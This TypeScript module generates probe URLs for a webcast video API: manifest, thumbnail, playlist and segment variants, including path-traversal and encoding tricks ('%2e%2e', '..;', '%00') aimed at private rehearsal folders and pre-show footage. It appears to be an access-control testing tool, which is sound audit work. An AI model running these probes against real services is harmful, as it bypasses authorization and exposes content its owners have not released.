/** Addresses at which somebody may try to see what is not for viewers. */

/** Where the API answers, and about which webcast. */
export type Target = { readonly url: string; readonly webcastId: string };

const FORMATS = [
  ...['applehttp', 'hls', 'applehttp_to_mc', 'url', 'mpegdash', 'hds', 'hdnetworkmanifest'],
  ...['http', 'rtmp', 'rtsp', 'sl', 'download', 'auto', ''],
];

/** playManifest in all its formats, with everything that it takes or ignores, with the session in the path and the query. */
export function manifestAddresses({ url, webcastId }: Target, ks: string | null): string[] {
  const base = `${url}/p/100/sp/10000/playManifest/entryId/${webcastId}`;
  const inPath = ks === null ? '' : `/ks/${encodeURIComponent(ks)}`;
  const inQuery = ks === null ? '' : `?ks=${encodeURIComponent(ks)}`;
  const byFormat = FORMATS.map(
    (format) => `${base}/protocol/http/format/${format}${inPath}/a.m3u8`,
  );
  const more = [
    ...['/responseFormat/json', '/responseFormat/jsonp/callback/f', '/responseFormat/xml'],
    ...['/flavorIds/0_aaaaaaaa', '/flavorId/0', '/tags/source', '/maxBitrate/99999'],
    ...['/seekFrom/0', '/seekFrom/0/clipTo/99999', '/seekFromTime/0', '/playbackType/live'],
    ...['/isLive/1', '/viewMode/1', '/preview/1', '/explicitLive/0', '/live/true', '/timeAlign/0'],
    ...[
      '/deliveryProfileId/1',
      '/cdnHost/x',
      '/storageId/1',
      '/hlsVersion/3',
      '/expiry/99999999999',
    ],
  ];
  return [
    ...byFormat,
    ...more.map((name) => `${base}/format/applehttp${name}${inPath}/a.m3u8`),
    `${base}/format/applehttp/a.m3u8${inQuery}`,
    `${base}/format/url${inPath}`,
    `${url}/p/100/playManifest/entryId/${webcastId}/format/applehttp${inPath}/a.m3u8`,
    `${url}//p/100/sp/10000/playManifest/entryId/${webcastId}/format/applehttp${inPath}/a.m3u8`,
  ];
}

/** The entry's picture now and at every moment that a rehearsal could be looked for at. */
export function thumbnailAddresses({ url, webcastId }: Target, ks: string | null): string[] {
  const base = `${url}/p/100/sp/10000/thumbnail/entry_id/${webcastId}`;
  const inPath = ks === null ? '' : `/ks/${encodeURIComponent(ks)}`;
  const moments = ['-30', '-1', '-0.1', '0', '0.1', '1', '2', '5', '60', '99999', 'NaN', '1e9'];
  return [
    `${base}/width/160${inPath}`,
    `${base}${inPath}/width/161/height/90/type/3/quality/90`,
    ...moments.map((second) => `${base}/width/160/vid_sec/${second}${inPath}`),
    `${base}/vid_slices/10/vid_slice/0/width/160${inPath}`,
    `${base}/start_sec/-60/end_sec/0/vid_slices/5/width/160${inPath}`,
  ];
}

/**
 * Other folders under an address that is genuine: the rehearsal's, with the token of the show.
 *
 * @param shown `http://…/v/TOKEN/WEBCAST/GENERATION`
 */
export function otherFolders(
  shown: string,
  generation: string,
  files: readonly string[],
): string[] {
  const parent = shown.slice(0, shown.lastIndexOf('/'));
  const folders = [
    `${parent}/${generation}`,
    ...['..', '%2e%2e', '.%2e', '..%2f..', '..\\', '..;', '%252e%252e', './/..'].map(
      (up) => `${shown}/${up}/${generation}`,
    ),
    ...['/', '//', '/./', '%2f', '%00', '%5c'].map(
      (between) => `${shown}${between}../${generation}`,
    ),
    `${parent}/x/../${generation}`,
    `${parent}//${generation}`,
  ];
  return folders.flatMap((folder) => files.map((file) => `${folder}/${file}`));
}

/** The playlists of a folder in every form, also from before its beginning. */
export function playlistForms(folder: string): string[] {
  const names = ['video', 'video-dvr', 'audio', 'audio-dvr', 'video-iframes', 'index', 'index-dvr'];
  const queries = ['', '?_HLS_skip=YES', '?_HLS_skip=v2', '?_HLS_msn=0', '?_HLS_msn=0&_HLS_part=0'];
  const wrong = ['?_HLS_msn=-1', '?_HLS_msn=-1&_HLS_part=0', '?_HLS_part=0', '?_HLS_msn=0x0'];
  return names.flatMap((name) =>
    [...queries, ...wrong].map((query) => `${folder}/${name}.m3u8${query}`),
  );
}

/** Names of segments and parts as the ones that were seen, with other numbers; and of init segments. */
export function guessedPieces(folder: string, seen: readonly string[]): string[] {
  const stems = [...new Set(seen.map((uri) => /^(video-[0-9a-z]+)-\d+/.exec(uri)?.[1]))];
  const numbers = ['0', '1', '2', '3', '4', '5', '6', '00', '-1', '-2', '999999999'];
  return [
    ...stems.flatMap((stem) =>
      stem === undefined
        ? []
        : numbers.flatMap((number) => [
            `${folder}/${stem}-${number}.m4s`,
            `${folder}/${stem}-${number}.0.m4s`,
            `${folder}/${stem}-${number}.1.m4s`,
          ]),
    ),
    ...[0, 1, 2, 3].map((number) => `${folder}/video-init-${number}.mp4`),
  ];
}
